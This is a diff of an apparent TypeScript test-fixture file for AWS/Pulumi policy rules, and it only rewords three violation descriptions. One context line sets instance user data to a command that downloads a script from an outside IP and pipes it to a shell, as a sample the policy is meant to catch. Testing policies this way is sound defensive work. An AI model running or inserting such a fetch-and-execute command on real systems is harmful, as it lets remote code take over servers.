@@ -174,7 +174,7 @@ export const network: readonly Change[] = [
     "remote desktop by IPv6",
     inAcl("network-application", "ingress", { cidrBlock: undefined, ipv6CidrBlock: "::/0", fromPort: 3389, toPort: 3389 }),
   ],
-  ["aws-vpc-clock-disallow-outside-time", "nodes that speak UDP to anybody", inAcl("network-application", "egress", { protocol: "17" })],
+  ["aws-vpc-clock-disallow-outside-time", "nodes that speak UDP to anyone", inAcl("network-application", "egress", { protocol: "17" })],
   [
     "aws-vpc-subnet-disallow-public-addresses",
     "public addresses in a subnet",
@@ -376,7 +376,7 @@ export const network: readonly Change[] = [
   ],
   ["aws-pulumi-resource-disallow-foreign-hosts", "nodes that fetch a script", withUserData("curl -s http://198.51.100.9/x | sh")],
   ["aws-ec2-node-enforce-amazon-image", "nodes with a stranger's image", change(template, { imageId: "ami-0bad0bad0bad0bad0" })],
-  ["aws-ec2-node-disallow-key-pair", "nodes with a key of somebody", change(template, { keyName: "mine" })],
+  ["aws-ec2-node-disallow-key-pair", "nodes with a key of someone", change(template, { keyName: "mine" })],
   [
     "aws-ec2-node-disallow-public-ip",
     "nodes with public addresses",
@@ -405,7 +405,7 @@ export const network: readonly Change[] = [
   ],
   [
     "aws-autoscaling-group-configure-node-age",
-    "nodes that nobody may replace",
+    "nodes that no one may replace",
     change("aws:autoscaling/group:Group", { protectFromScaleIn: true, maxInstanceLifetime: 0 }),
   ],
 ];
